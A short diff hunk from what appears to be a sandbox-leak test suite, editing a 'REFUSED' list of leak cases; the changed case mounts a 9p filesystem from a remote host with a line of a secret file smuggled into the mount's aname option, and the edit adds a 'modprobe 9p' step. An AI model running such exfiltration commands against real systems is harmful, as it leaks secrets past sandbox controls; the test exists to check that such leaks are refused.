@@ -281,6 +281,6 @@ REFUSED = [
          passes=b"x"),
     Leak("map-of-bpf", snippet(MAP_OF_BPF), passes=b"nothing"),
     Leak("name-of-mounted-tree", f"cat >serve.py <<'END'{NAME_OF_TREE}END\nremote-exec python3 -I serve.py & until [[ -e serves ]]; do sleep 0.02; done\n"
-         "mkdir tree; mount -t 9p -o \"trans=tcp,version=9p2000.L,aname=$(sed -n 2p secret | tr , .)\" 10.77.0.2 tree & sleep 2; kill $!",
+         "modprobe 9p; mkdir tree; mount -t 9p -o \"trans=tcp,version=9p2000.L,aname=$(sed -n 2p secret | tr , .)\" 10.77.0.2 tree & sleep 5; kill $!",
          shows=holds(SECRET)),
 ]
